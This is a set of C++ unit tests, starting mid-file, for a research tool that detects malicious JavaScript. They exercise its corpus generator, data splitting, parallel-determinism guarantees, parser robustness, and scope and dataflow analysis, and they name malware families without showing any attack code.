  b_cfg.seed = 2;
  const Corpus a = generate_corpus(a_cfg);
  const Corpus b = generate_corpus(b_cfg);
  EXPECT_NE(a.samples[0].source, b.samples[0].source);
}

TEST(Generator, WholeCorpusParses) {
  GeneratorConfig cfg;
  cfg.benign_count = 60;
  cfg.malicious_count = 60;
  const Corpus corpus = generate_corpus(cfg);
  for (const auto& s : corpus.samples) {
    EXPECT_TRUE(js::parses_ok(s.source)) << s.family;
  }
}

TEST(Generator, OriginsModelTableOne) {
  GeneratorConfig cfg;
  cfg.benign_count = 200;
  cfg.malicious_count = 200;
  const Corpus corpus = generate_corpus(cfg);
  std::size_t hynek = 0, benign150k = 0;
  for (const auto& s : corpus.samples) {
    hynek += s.origin == "hynek-petrak";
    benign150k += s.origin == "150k-js-dataset";
  }
  // Hynek Petrak dominates malicious (39450/42598 in Table I); the 150k
  // dataset dominates benign (150000/215203).
  EXPECT_GT(hynek, 160u);
  EXPECT_GT(benign150k, 110u);
}

TEST(Generator, WildObfuscationTogglable) {
  GeneratorConfig with, without;
  with.benign_count = without.benign_count = 40;
  with.malicious_count = without.malicious_count = 40;
  with.seed = without.seed = 7;
  without.apply_wild_obfuscation = false;
  const Corpus raw = generate_corpus(without);
  const Corpus wild = generate_corpus(with);
  // With wild obfuscation, some sources must differ from the raw run.
  int differs = 0;
  for (std::size_t i = 0; i < raw.size(); ++i) {
    differs += raw.samples[i].source != wild.samples[i].source;
  }
  EXPECT_GT(differs, 10);
}

TEST(Split, SizesAndBalance) {
  GeneratorConfig cfg;
  cfg.benign_count = 50;
  cfg.malicious_count = 50;
  const Corpus corpus = generate_corpus(cfg);
  Rng rng(4);
  const Split split = split_corpus(corpus, 30, 30, rng);
  EXPECT_EQ(split.train.size(), 60u);
  EXPECT_EQ(split.train.count_label(0), 30u);
  EXPECT_EQ(split.train.count_label(1), 30u);
  EXPECT_EQ(split.test.size(), 40u);
}

TEST(Split, NoSampleLost) {
  GeneratorConfig cfg;
  cfg.benign_count = 20;
  cfg.malicious_count = 20;
  const Corpus corpus = generate_corpus(cfg);
  Rng rng(5);
  const Split split = split_corpus(corpus, 10, 10, rng);
  EXPECT_EQ(split.train.size() + split.test.size(), corpus.size());
}

TEST(Balance, EqualizesClasses) {
  Corpus corpus;
  for (int i = 0; i < 30; ++i) corpus.samples.push_back({"b;", 0, "", ""});
  for (int i = 0; i < 10; ++i) corpus.samples.push_back({"m;", 1, "", ""});
  Rng rng(6);
  const Corpus balanced = balance(corpus, rng);
  EXPECT_EQ(balanced.count_label(0), 10u);
  EXPECT_EQ(balanced.count_label(1), 10u);
}

TEST(Balance, EmptyClassYieldsEmpty) {
  Corpus corpus;
  corpus.samples.push_back({"b;", 0, "", ""});
  Rng rng(7);
  EXPECT_EQ(balance(corpus, rng).size(), 0u);
}

// Family sweep: each malicious family name appears over a large sample.
TEST(Generator, AllFamiliesRepresented) {
  Rng rng(8);
  std::set<std::string> families;
  for (int i = 0; i < 200; ++i) {
    std::string family;
    generate_malicious(rng, &family);
    families.insert(family);
  }
  EXPECT_GE(families.size(), 6u);
  EXPECT_TRUE(families.count("dropper"));
  EXPECT_TRUE(families.count("heap-spray"));
  EXPECT_TRUE(families.count("web-skimmer"));
  EXPECT_TRUE(families.count("cryptojacker"));
}

TEST(Generator, AllGenresRepresented) {
  Rng rng(9);
  std::set<std::string> genres;
  for (int i = 0; i < 400; ++i) {
    std::string genre;
    generate_benign(rng, &genre);
    genres.insert(genre);
  }
  EXPECT_GE(genres.size(), 12u);
}

}  // namespace
}  // namespace jsrev::dataset
