// Regression tests for the parallel pipeline's core invariant: any stage run
// at threads=N must produce results bit-identical to threads=1 (the exact
// legacy serial path). Per-item randomness is index-derived and every
// floating-point accumulation stays in index order, so this is exact
// equality, not tolerance-based comparison.
#include <gtest/gtest.h>

#include <sstream>
#include <string>
#include <vector>

#include "core/family_classifier.h"
#include "core/jsrevealer.h"
#include "dataset/generator.h"
#include "ml/decision_tree.h"
#include "ml/kmeans.h"
#include "ml/outlier.h"
#include "util/rng.h"

namespace jsrev {
namespace {

ml::Matrix random_points(std::size_t n, std::size_t d, std::uint64_t seed) {
  Rng rng(seed);
  ml::Matrix m(n, d);
  for (std::size_t i = 0; i < n; ++i) {
    for (std::size_t j = 0; j < d; ++j) m(i, j) = rng.normal();
  }
  // A few duplicated rows exercise the degenerate-distance branches.
  if (n > 4) {
    std::copy(m.row(0), m.row(0) + d, m.row(n - 1));
    std::copy(m.row(1), m.row(1) + d, m.row(n - 2));
  }
  return m;
}

TEST(ParallelDeterminism, OutlierScoresAndMasksBitIdentical) {
  const ml::Matrix pts = random_points(300, 16, 99);
  for (const ml::OutlierMethod m :
       {ml::OutlierMethod::kFastAbod, ml::OutlierMethod::kKnn,
        ml::OutlierMethod::kLof}) {
    ml::OutlierConfig serial;
    serial.threads = 1;
    ml::OutlierConfig parallel = serial;
    parallel.threads = 4;
    const ml::OutlierResult a = ml::run_outlier(m, pts, serial);
    const ml::OutlierResult b = ml::run_outlier(m, pts, parallel);
    EXPECT_EQ(a.scores, b.scores) << ml::outlier_method_name(m);
    EXPECT_EQ(a.is_outlier, b.is_outlier) << ml::outlier_method_name(m);
    EXPECT_EQ(a.outlier_count, b.outlier_count) << ml::outlier_method_name(m);
  }
}

TEST(ParallelDeterminism, KMeansClusteringBitIdentical) {
  const ml::Matrix pts = random_points(500, 12, 123);
  ml::KMeansConfig serial;
  serial.k = 9;
  serial.seed = 31;
  serial.threads = 1;
  ml::KMeansConfig parallel = serial;
  parallel.threads = 4;

  const ml::Clustering a = ml::bisecting_kmeans(pts, serial);
  const ml::Clustering b = ml::bisecting_kmeans(pts, parallel);
  EXPECT_EQ(a.assignment, b.assignment);
  EXPECT_EQ(a.centroids.data(), b.centroids.data());
  EXPECT_EQ(a.cluster_sse, b.cluster_sse);
  EXPECT_EQ(a.sizes, b.sizes);
  EXPECT_EQ(a.sse, b.sse);

  const ml::Clustering pa = ml::kmeans(pts, serial);
  const ml::Clustering pb = ml::kmeans(pts, parallel);
  EXPECT_EQ(pa.assignment, pb.assignment);
  EXPECT_EQ(pa.centroids.data(), pb.centroids.data());
}

TEST(ParallelDeterminism, RandomForestBitIdentical) {
  const std::size_t n = 240, d = 8;
  const ml::Matrix x = random_points(n, d, 7);
  std::vector<int> y(n);
  for (std::size_t i = 0; i < n; ++i) y[i] = x(i, 0) + x(i, 3) > 0 ? 1 : 0;

  ml::ForestConfig serial;
  serial.n_trees = 24;
  serial.seed = 42;
  serial.threads = 1;
  ml::ForestConfig parallel = serial;
  parallel.threads = 4;

  ml::RandomForest fa(serial), fb(parallel);
  fa.fit(x, y);
  fb.fit(x, y);

  // Strongest check: the serialized models must match byte for byte.
  std::ostringstream sa, sb;
  fa.save(sa);
  fb.save(sb);
  EXPECT_EQ(sa.str(), sb.str());
  EXPECT_EQ(fa.feature_importances(), fb.feature_importances());
  EXPECT_EQ(fa.predict_all(x, 1), fb.predict_all(x, 4));
}

// Train the full pipeline on a small synthetic corpus at threads=1 and
// threads=4: the persisted models (vocabulary, embedding, centroids, scaler,
// forest — everything downstream of the outlier masks and cluster
// assignments) must match byte for byte, and so must every prediction and
// feature vector.
TEST(ParallelDeterminism, FullPipelineBitIdentical) {
  dataset::GeneratorConfig gc;
  gc.seed = 21;
  gc.benign_count = 60;
  gc.malicious_count = 60;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);
  Rng rng(22);
  const dataset::Split split = dataset::split_corpus(corpus, 42, 42, rng);

  core::Config cfg;
  cfg.embed_epochs = 5;
  cfg.cluster_sample_per_class = 400;
  cfg.threads = 1;
  core::JsRevealer serial(cfg);
  serial.train(split.train);

  cfg.threads = 4;
  core::JsRevealer parallel(cfg);
  parallel.train(split.train);

  EXPECT_EQ(serial.feature_count(), parallel.feature_count());
  EXPECT_EQ(serial.clusters_removed(), parallel.clusters_removed());

  std::ostringstream ms, mp;
  serial.save(ms);
  parallel.save(mp);
  EXPECT_EQ(ms.str(), mp.str()) << "trained models differ across widths";

  std::vector<std::string> sources;
  for (const auto& s : split.test.samples) sources.push_back(s.source);
  EXPECT_EQ(serial.classify_all(sources), parallel.classify_all(sources));
  for (std::size_t i = 0; i < 5 && i < sources.size(); ++i) {
    EXPECT_EQ(serial.featurize(sources[i]), parallel.featurize(sources[i]));
  }
  EXPECT_EQ(serial.timings().threads, 1u);
  EXPECT_EQ(parallel.timings().threads, 4u);
}

TEST(ParallelDeterminism, ClassifyAllMatchesPerItemClassify) {
  dataset::GeneratorConfig gc;
  gc.seed = 33;
  gc.benign_count = 40;
  gc.malicious_count = 40;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);

  core::Config cfg;
  cfg.embed_epochs = 4;
  cfg.cluster_sample_per_class = 300;
  cfg.threads = 4;
  core::JsRevealer det(cfg);
  det.train(corpus);

  std::vector<std::string> sources;
  for (std::size_t i = 0; i < 20; ++i) {
    sources.push_back(corpus.samples[i].source);
  }
  sources.push_back("function ( { nope");  // unparseable → 1 by convention
  const std::vector<int> batch = det.classify_all(sources);
  ASSERT_EQ(batch.size(), sources.size());
  for (std::size_t i = 0; i < sources.size(); ++i) {
    EXPECT_EQ(batch[i], det.classify(sources[i])) << "source " << i;
  }
  EXPECT_EQ(batch.back(), 1);
}

TEST(ParallelDeterminism, FamilyClassifierWidthInvariant) {
  dataset::GeneratorConfig gc;
  gc.seed = 44;
  gc.benign_count = 40;
  gc.malicious_count = 80;
  const dataset::Corpus corpus = dataset::generate_corpus(gc);

  core::Config cfg;
  cfg.embed_epochs = 4;
  cfg.cluster_sample_per_class = 300;
  cfg.threads = 1;
  core::JsRevealer det(cfg);
  det.train(corpus);

  core::FamilyClassifier serial(1), parallel(4);
  ASSERT_GT(serial.train(det, corpus), 0u);
  ASSERT_GT(parallel.train(det, corpus), 0u);
  ASSERT_EQ(serial.families(), parallel.families());
  for (std::size_t i = 0; i < 25; ++i) {
    const auto& s = corpus.samples[i];
    if (s.label != 1) continue;
    EXPECT_EQ(serial.classify(det, s.source), parallel.classify(det, s.source));
  }
}

}  // namespace
}  // namespace jsrev
