// Property and failure-injection tests for the JavaScript frontend:
//  * generator → parse → print → parse round-trips at corpus scale,
//  * obfuscated-output round-trips (the printer must handle machine-made
//    trees, not just human-shaped ones),
//  * malformed-input sweeps (every truncation of a valid program must either
//    parse or throw a structured error — never crash or hang).
#include <gtest/gtest.h>

#include <string>

#include "dataset/generator.h"
#include "js/lexer.h"
#include "js/parser.h"
#include "js/printer.h"
#include "js/visitor.h"
#include "obfuscators/obfuscator.h"
#include "util/rng.h"

namespace jsrev::js {
namespace {

bool tree_equal(const Node* a, const Node* b) {
  if (a == nullptr || b == nullptr) return a == b;
  if (a->kind != b->kind || a->lit != b->lit || a->str != b->str ||
      a->flags != b->flags || a->bval != b->bval) {
    return false;
  }
  if (a->lit == LiteralType::kNumber && a->num != b->num) return false;
  if (a->children.size() != b->children.size()) return false;
  for (std::size_t i = 0; i < a->children.size(); ++i) {
    if (!tree_equal(a->children[i], b->children[i])) return false;
  }
  return true;
}

TEST(FrontendProperty, CorpusRoundTripsBothStyles) {
  Rng rng(101);
  for (int i = 0; i < 30; ++i) {
    const std::string src = i % 2 == 0 ? dataset::generate_benign(rng)
                                       : dataset::generate_malicious(rng);
    const Ast first = parse(src);
    for (const PrintStyle style : {PrintStyle::kPretty,
                                   PrintStyle::kMinified}) {
      const std::string printed = print(first.root, style);
      const Ast second = parse(printed);
      EXPECT_TRUE(tree_equal(first.root, second.root)) << printed;
    }
  }
}

TEST(FrontendProperty, PrintIsIdempotent) {
  // print(parse(print(t))) == print(t): printing is a fixed point.
  Rng rng(102);
  for (int i = 0; i < 15; ++i) {
    const std::string src = dataset::generate_benign(rng);
    const Ast ast = parse(src);
    const std::string once = print(ast.root);
    const std::string twice = print(parse(once).root);
    EXPECT_EQ(once, twice);
  }
}

TEST(FrontendProperty, ObfuscatedTreesRoundTrip) {
  Rng rng(103);
  for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
    const auto obfuscator = obf::make_obfuscator(kind);
    for (int i = 0; i < 6; ++i) {
      const std::string src = dataset::generate_malicious(rng);
      const std::string transformed = obfuscator->obfuscate(src, rng());
      const Ast first = parse(transformed);
      const Ast second = parse(print(first.root, PrintStyle::kMinified));
      EXPECT_TRUE(tree_equal(first.root, second.root))
          << obf::obfuscator_kind_name(kind);
    }
  }
}

TEST(FrontendFailureInjection, TruncationsNeverCrash) {
  Rng rng(104);
  const std::string src = dataset::generate_benign(rng);
  // Every prefix of a valid program: parse() must terminate with either a
  // tree or a structured exception.
  for (std::size_t cut = 0; cut < src.size(); cut += 7) {
    const std::string prefix = src.substr(0, cut);
    try {
      parse(prefix);
    } catch (const LexError&) {
    } catch (const ParseError&) {
    }
    SUCCEED();
  }
}

TEST(FrontendFailureInjection, ByteFlipsNeverCrash) {
  Rng rng(105);
  std::string src = dataset::generate_benign(rng);
  for (int trial = 0; trial < 200; ++trial) {
    std::string mutated = src;
    const std::size_t pos = rng.below(mutated.size());
    mutated[pos] = static_cast<char>(rng.below(127) + 1);
    try {
      parse(mutated);
    } catch (const LexError&) {
    } catch (const ParseError&) {
    }
  }
  SUCCEED();
}

TEST(FrontendFailureInjection, GarbageInputsThrowStructuredErrors) {
  const char* cases[] = {
      "\x01\x02\x03",      "((((((((",        "var var var",
      "function",          "if (",            "]}{)(",
      "0x",                "'unterminated",    "/unterminated-regex",
      "a.b.c.",            "new",             "switch (x) {",
  };
  for (const char* bad : cases) {
    EXPECT_FALSE(parses_ok(bad)) << bad;
  }
}

TEST(FrontendFailureInjection, DeepNestingDoesNotOverflowQuickly) {
  // 400 nested blocks — recursion depth guard by construction (the parser
  // is recursive-descent; this bounds the practical depth we promise).
  std::string src;
  for (int i = 0; i < 400; ++i) src += "{";
  src += "var x = 1;";
  for (int i = 0; i < 400; ++i) src += "}";
  EXPECT_TRUE(parses_ok(src));
}

TEST(FrontendProperty, LexerTokenOffsetsMonotonic) {
  Rng rng(106);
  const std::string src = dataset::generate_benign(rng);
  Lexer lexer(src);
  const auto tokens = lexer.tokenize();
  for (std::size_t i = 1; i < tokens.size(); ++i) {
    EXPECT_GE(tokens[i].offset, tokens[i - 1].offset);
    EXPECT_GE(tokens[i].line, tokens[i - 1].line);
  }
}

TEST(FrontendProperty, FinalizeIdsAreDense) {
  Rng rng(107);
  const std::string src = dataset::generate_malicious(rng);
  const Ast ast = parse(src);
  int count = 0;
  int max_id = -1;
  walk_all(ast.root, [&](const Node* n) {
    ++count;
    max_id = std::max(max_id, static_cast<int>(n->id));
    if (n->parent != nullptr) EXPECT_LT(n->parent->id, n->id);
  });
  EXPECT_EQ(max_id + 1, count);  // preorder ids are dense 0..count-1
}

}  // namespace
}  // namespace jsrev::js
