// Property and failure-injection tests for the JavaScript frontend:
//  * generator → parse → print → parse round-trips at corpus scale,
//  * obfuscated-output round-trips (the printer must handle machine-made
//    trees, not just human-shaped ones),
//  * malformed-input sweeps (every truncation of a valid program must either
//    parse or throw a structured error — never crash or hang).
#include <gtest/gtest.h>

#include <string>

#include "dataset/generator.h"
#include "js/ast_compare.h"
#include "js/lexer.h"
#include "js/parser.h"
#include "js/printer.h"
#include "js/visitor.h"
#include "obfuscators/obfuscator.h"
#include "util/rng.h"

namespace jsrev::js {
namespace {

TEST(FrontendProperty, CorpusRoundTripsBothStyles) {
  Rng rng(101);
  for (int i = 0; i < 30; ++i) {
    const std::string src = i % 2 == 0 ? dataset::generate_benign(rng)
                                       : dataset::generate_malicious(rng);
    const Ast first = parse(src);
    for (const PrintStyle style : {PrintStyle::kPretty,
                                   PrintStyle::kMinified}) {
      const std::string printed = print(first.root, style);
      const Ast second = parse(printed);
      EXPECT_TRUE(ast_equal(first.root, second.root)) << printed;
    }
  }
}

TEST(FrontendProperty, PrintIsIdempotent) {
  // print(parse(print(t))) == print(t): printing is a fixed point.
  Rng rng(102);
  for (int i = 0; i < 15; ++i) {
    const std::string src = dataset::generate_benign(rng);
    const Ast ast = parse(src);
    const std::string once = print(ast.root);
    const std::string twice = print(parse(once).root);
    EXPECT_EQ(once, twice);
  }
}

TEST(FrontendProperty, ObfuscatedTreesRoundTrip) {
  Rng rng(103);
  for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
    const auto obfuscator = obf::make_obfuscator(kind);
    for (int i = 0; i < 6; ++i) {
      const std::string src = dataset::generate_malicious(rng);
      const std::string transformed = obfuscator->obfuscate(src, rng());
      const Ast first = parse(transformed);
      const Ast second = parse(print(first.root, PrintStyle::kMinified));
      EXPECT_TRUE(ast_equal(first.root, second.root))
          << obf::obfuscator_kind_name(kind);
    }
  }
}

TEST(FrontendProperty, ObfuscatedCorpusRoundTripsAtScale) {
  // 500+ scripts spread across the four obfuscation models: every
  // machine-made tree must survive parse → print → parse with an
  // ast_equal-identical structure, in both print styles.
  Rng rng(108);
  int checked = 0;
  for (int i = 0; i < 126; ++i) {
    const std::string base = i % 2 == 0 ? dataset::generate_malicious(rng)
                                        : dataset::generate_benign(rng);
    for (const obf::ObfuscatorKind kind : obf::kAllObfuscators) {
      const auto obfuscator = obf::make_obfuscator(kind);
      const std::string transformed = obfuscator->obfuscate(base, rng());
      const Ast first = parse(transformed);
      const PrintStyle style =
          checked % 2 == 0 ? PrintStyle::kPretty : PrintStyle::kMinified;
      const std::string printed = print(first.root, style);
      const Ast second = parse(printed);
      ASSERT_TRUE(ast_equal(first.root, second.root))
          << obf::obfuscator_kind_name(kind) << " script " << i;
      EXPECT_EQ(ast_fingerprint(first.root), ast_fingerprint(second.root));
      ++checked;
    }
  }
  EXPECT_GE(checked, 500);
}

TEST(FrontendFailureInjection, TruncationsNeverCrash) {
  Rng rng(104);
  const std::string src = dataset::generate_benign(rng);
  // Every prefix of a valid program: parse() must terminate with either a
  // tree or a structured exception.
  for (std::size_t cut = 0; cut < src.size(); cut += 7) {
    const std::string prefix = src.substr(0, cut);
    try {
      parse(prefix);
    } catch (const LexError&) {
    } catch (const ParseError&) {
    }
    SUCCEED();
  }
}

TEST(FrontendFailureInjection, ByteFlipsNeverCrash) {
  Rng rng(105);
  std::string src = dataset::generate_benign(rng);
  for (int trial = 0; trial < 200; ++trial) {
    std::string mutated = src;
    const std::size_t pos = rng.below(mutated.size());
    mutated[pos] = static_cast<char>(rng.below(127) + 1);
    try {
      parse(mutated);
    } catch (const LexError&) {
    } catch (const ParseError&) {
    }
  }
  SUCCEED();
}

TEST(FrontendFailureInjection, GarbageInputsThrowStructuredErrors) {
  const char* cases[] = {
      "\x01\x02\x03",      "((((((((",        "var var var",
      "function",          "if (",            "]}{)(",
      "0x",                "'unterminated",    "/unterminated-regex",
      "a.b.c.",            "new",             "switch (x) {",
  };
  for (const char* bad : cases) {
    EXPECT_FALSE(parses_ok(bad)) << bad;
  }
}

TEST(FrontendFailureInjection, DeepNestingDoesNotOverflowQuickly) {
  // 400 nested blocks — well under ParseLimits::max_recursion_depth, so
  // this must keep parsing cleanly.
  std::string src;
  for (int i = 0; i < 400; ++i) src += "{";
  src += "var x = 1;";
  for (int i = 0; i < 400; ++i) src += "}";
  EXPECT_TRUE(parses_ok(src));
}

TEST(FrontendFailureInjection, PathologicalDepthIsAParseErrorValue) {
  // 50k nested parens would blow the C++ stack in a recursive-descent
  // parser; the depth guard must convert that into an ordinary ParseError
  // long before the stack is at risk.
  std::string deep;
  deep.reserve(2 * 50000 + 8);
  for (int i = 0; i < 50000; ++i) deep += "(";
  deep += "1";
  for (int i = 0; i < 50000; ++i) deep += ")";
  EXPECT_FALSE(parses_ok(deep));
  EXPECT_THROW(parse(deep), ParseError);

  // Same for statement nesting.
  std::string blocks;
  for (int i = 0; i < 50000; ++i) blocks += "{";
  EXPECT_FALSE(parses_ok(blocks));
}

TEST(FrontendFailureInjection, ParseLimitsAreOverridable) {
  ParseLimits tight;
  tight.max_recursion_depth = 40;
  std::string src = "r = ";
  for (int i = 0; i < 30; ++i) src += "(";
  src += "1";
  for (int i = 0; i < 30; ++i) src += ")";
  src += ";";
  EXPECT_THROW(parse(src, tight), ParseError);
  EXPECT_FALSE(parses_ok(src, tight));
  EXPECT_TRUE(parses_ok(src));  // default limits accept it

  ParseLimits small_src;
  small_src.max_source_bytes = 8;
  EXPECT_THROW(parse("var xyz = 12345;", small_src), LexError);
}

TEST(FrontendProperty, LexerTokenOffsetsMonotonic) {
  Rng rng(106);
  const std::string src = dataset::generate_benign(rng);
  Lexer lexer(src);
  const auto tokens = lexer.tokenize();
  for (std::size_t i = 1; i < tokens.size(); ++i) {
    EXPECT_GE(tokens[i].offset, tokens[i - 1].offset);
    EXPECT_GE(tokens[i].line, tokens[i - 1].line);
  }
}

TEST(FrontendProperty, FinalizeIdsAreDense) {
  Rng rng(107);
  const std::string src = dataset::generate_malicious(rng);
  const Ast ast = parse(src);
  int count = 0;
  int max_id = -1;
  walk_all(ast.root, [&](const Node* n) {
    ++count;
    max_id = std::max(max_id, static_cast<int>(n->id));
    if (n->parent != nullptr) EXPECT_LT(n->parent->id, n->id);
  });
  EXPECT_EQ(max_id + 1, count);  // preorder ids are dense 0..count-1
}

}  // namespace
}  // namespace jsrev::js
