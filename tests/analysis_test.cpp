#include <gtest/gtest.h>

#include <string>

#include "analysis/cfg.h"
#include "analysis/dataflow.h"
#include "analysis/pdg.h"
#include "analysis/scope.h"
#include "js/parser.h"
#include "js/visitor.h"

namespace jsrev::analysis {
namespace {

using js::Node;
using js::NodeKind;

const Symbol* find_symbol(const ScopeInfo& info, const std::string& name) {
  for (const auto& sym : info.symbols()) {
    if (sym->name == name) return sym.get();
  }
  return nullptr;
}

TEST(Scope, GlobalDeclarations) {
  const js::Ast ast = js::parse("var a = 1; var b = a + 1;");
  const ScopeInfo info = analyze_scopes(ast.root);
  const Symbol* a = find_symbol(info, "a");
  ASSERT_NE(a, nullptr);
  EXPECT_EQ(a->references.size(), 2u);  // declaration + read
  EXPECT_EQ(a->writes.size(), 1u);
  EXPECT_FALSE(a->is_global_implicit);
}

TEST(Scope, FunctionParamsAreScoped) {
  const js::Ast ast = js::parse(
      "var x = 1; function f(x) { return x; } f(x);");
  const ScopeInfo info = analyze_scopes(ast.root);
  // Two distinct `x` symbols: global and parameter.
  int count = 0;
  for (const auto& sym : info.symbols()) count += sym->name == "x";
  EXPECT_EQ(count, 2);
}

TEST(Scope, ImplicitGlobals) {
  const js::Ast ast = js::parse("document.write(navigator.userAgent);");
  const ScopeInfo info = analyze_scopes(ast.root);
  const Symbol* doc = find_symbol(info, "document");
  ASSERT_NE(doc, nullptr);
  EXPECT_TRUE(doc->is_global_implicit);
  const Symbol* nav = find_symbol(info, "navigator");
  ASSERT_NE(nav, nullptr);
  EXPECT_TRUE(nav->is_global_implicit);
}

TEST(Scope, PropertyNamesNotResolved) {
  const js::Ast ast = js::parse("var obj = {}; obj.foo = 1; use(obj.foo);");
  const ScopeInfo info = analyze_scopes(ast.root);
  EXPECT_EQ(find_symbol(info, "foo"), nullptr);
}

TEST(Scope, VarHoistingAcrossUse) {
  // `v` is used before its var declaration — still the same symbol.
  const js::Ast ast = js::parse("function f() { use(v); var v = 1; }");
  const ScopeInfo info = analyze_scopes(ast.root);
  const Symbol* v = find_symbol(info, "v");
  ASSERT_NE(v, nullptr);
  EXPECT_FALSE(v->is_global_implicit);
  EXPECT_EQ(v->references.size(), 2u);
}

TEST(Scope, CatchParamScoped) {
  const js::Ast ast = js::parse(
      "var e = 1; try { f(); } catch (e) { log(e); } use(e);");
  const ScopeInfo info = analyze_scopes(ast.root);
  int count = 0;
  for (const auto& sym : info.symbols()) count += sym->name == "e";
  EXPECT_EQ(count, 2);
}

TEST(Scope, CatchParamIsParameter) {
  // The catch param is a binding written by the throw machinery — it must
  // carry is_parameter like function params do (ES5 12.14), so consumers
  // (e.g. the write-only-variable lint) treat `catch (e) {}` as benign.
  const js::Ast ast = js::parse("try { f(); } catch (err) { }");
  const ScopeInfo info = analyze_scopes(ast.root);
  const Symbol* err = find_symbol(info, "err");
  ASSERT_NE(err, nullptr);
  EXPECT_TRUE(err->is_parameter);
  EXPECT_FALSE(err->is_global_implicit);
  EXPECT_EQ(err->writes.size(), 1u);  // the binding occurrence
}

TEST(Scope, VarInCatchHoistsToFunctionScope) {
  // ES5: only the catch PARAM is block-scoped; `var` inside the catch body
  // hoists to the enclosing function scope and is visible after the try.
  const js::Ast ast = js::parse(
      "function f() { try { g(); } catch (e) { var leaked = 1; } "
      "return leaked; }");
  const ScopeInfo info = analyze_scopes(ast.root);
  const Symbol* leaked = find_symbol(info, "leaked");
  ASSERT_NE(leaked, nullptr);
  EXPECT_FALSE(leaked->is_global_implicit);
  // Declaration write + the return read resolve to the same symbol.
  EXPECT_EQ(leaked->references.size(), 2u);
}

TEST(Scope, FunctionInBlockHoistsToFunctionScope) {
  // Annex-B web behavior (what ES5 engines actually shipped): a function
  // declaration inside a block is callable from outside the block.
  const js::Ast ast = js::parse(
      "function outer() { before(); if (x) { function inner() {} } "
      "inner(); }");
  const ScopeInfo info = analyze_scopes(ast.root);
  const Symbol* inner = find_symbol(info, "inner");
  ASSERT_NE(inner, nullptr);
  EXPECT_TRUE(inner->is_function);
  EXPECT_FALSE(inner->is_global_implicit);
}

TEST(Scope, ClosureOverCatchParam) {
  // A function expression inside the catch body closes over the catch param,
  // not a global.
  const js::Ast ast = js::parse(
      "try { f(); } catch (e) { setHandler(function () { return e; }); }");
  const ScopeInfo info = analyze_scopes(ast.root);
  const Symbol* e = find_symbol(info, "e");
  ASSERT_NE(e, nullptr);
  EXPECT_FALSE(e->is_global_implicit);
  EXPECT_EQ(e->references.size(), 2u);  // binding + closed-over read
}

TEST(Scope, ClosureResolvesToOuter) {
  const js::Ast ast = js::parse(
      "function outer() { var n = 0; return function() { n++; return n; }; }");
  const ScopeInfo info = analyze_scopes(ast.root);
  const Symbol* n = find_symbol(info, "n");
  ASSERT_NE(n, nullptr);
  EXPECT_EQ(n->references.size(), 3u);  // decl + update + read
}

TEST(Scope, NamedFunctionExpressionSelfReference) {
  const js::Ast ast = js::parse(
      "var f = function fact(n) { return n < 2 ? 1 : n * fact(n - 1); };");
  const ScopeInfo info = analyze_scopes(ast.root);
  const Symbol* fact = find_symbol(info, "fact");
  ASSERT_NE(fact, nullptr);
  EXPECT_FALSE(fact->is_global_implicit);
}

TEST(DataFlow, SimpleDefUse) {
  const js::Ast ast = js::parse("var a = 1; var b = a + a;");
  const ScopeInfo scopes = analyze_scopes(ast.root);
  const DataFlowInfo flow = analyze_dataflow(ast.root, scopes);
  // a: one write, two reads -> 2 def-use edges; b: write, no read -> 0.
  EXPECT_EQ(flow.edges().size(), 2u);
}

TEST(DataFlow, KilledByRedefinition) {
  const js::Ast ast = js::parse("var a = 1; use(a); a = 2; use(a);");
  const ScopeInfo scopes = analyze_scopes(ast.root);
  const DataFlowInfo flow = analyze_dataflow(ast.root, scopes);
  // First write reaches first use only; second write reaches second use.
  EXPECT_EQ(flow.edges().size(), 2u);
}

TEST(DataFlow, CanonicalIndexSharedAcrossReferences) {
  const js::Ast ast = js::parse("var a = 1; var b = a + 1; use(b);");
  const ScopeInfo scopes = analyze_scopes(ast.root);
  const DataFlowInfo flow = analyze_dataflow(ast.root, scopes);

  std::vector<int> a_indices;
  js::walk(const_cast<const Node*>(ast.root), [&](const Node* n) {
    if (n->kind == NodeKind::kIdentifier && n->str == "a") {
      a_indices.push_back(flow.canonical_index(n));
    }
    return true;
  });
  ASSERT_EQ(a_indices.size(), 2u);
  EXPECT_GE(a_indices[0], 0);
  EXPECT_EQ(a_indices[0], a_indices[1]);
}

TEST(DataFlow, CanonicalIndexInvariantUnderRenaming) {
  const js::Ast a1 = js::parse("var count = 1; var total = count + 2; use(total);");
  const js::Ast a2 = js::parse("var qq = 1; var zz = qq + 2; use(zz);");
  auto indices = [](const js::Ast& ast) {
    const ScopeInfo scopes = analyze_scopes(ast.root);
    const DataFlowInfo flow = analyze_dataflow(ast.root, scopes);
    std::vector<int> out;
    js::walk(const_cast<const Node*>(ast.root), [&](const Node* n) {
      if (n->kind == NodeKind::kIdentifier) {
        out.push_back(flow.canonical_index(n));
      }
      return true;
    });
    return out;
  };
  EXPECT_EQ(indices(a1), indices(a2));
}

TEST(DataFlow, NoDependencyForSingleUseVar) {
  const js::Ast ast = js::parse("var lonely = compute();");
  const ScopeInfo scopes = analyze_scopes(ast.root);
  const DataFlowInfo flow = analyze_dataflow(ast.root, scopes);
  EXPECT_EQ(flow.edges().size(), 0u);
  EXPECT_EQ(flow.linked_count(), 0u);
}

TEST(Cfg, StraightLine) {
  const js::Ast ast = js::parse("a(); b(); c();");
  const Cfg cfg = build_cfg(ast.root);
  // entry + exit + 3 statements.
  EXPECT_EQ(cfg.nodes().size(), 5u);
  EXPECT_EQ(cfg.nodes()[cfg.entry()].succs.size(), 1u);
}

TEST(Cfg, IfBranches) {
  const js::Ast ast = js::parse("if (x) { a(); } else { b(); } c();");
  const Cfg cfg = build_cfg(ast.root);
  // The if-test node must have two successors.
  bool found = false;
  for (const auto& n : cfg.nodes()) {
    if (n.stmt != nullptr && n.stmt->kind == NodeKind::kIfStatement) {
      EXPECT_EQ(n.succs.size(), 2u);
      found = true;
    }
  }
  EXPECT_TRUE(found);
}

TEST(Cfg, WhileBackEdge) {
  const js::Ast ast = js::parse("while (x) { a(); } b();");
  const Cfg cfg = build_cfg(ast.root);
  std::size_t test_id = Cfg::npos;
  for (std::size_t i = 0; i < cfg.nodes().size(); ++i) {
    if (cfg.nodes()[i].stmt != nullptr &&
        cfg.nodes()[i].stmt->kind == NodeKind::kWhileStatement) {
      test_id = i;
    }
  }
  ASSERT_NE(test_id, Cfg::npos);
  // Loop body's statement flows back to the test.
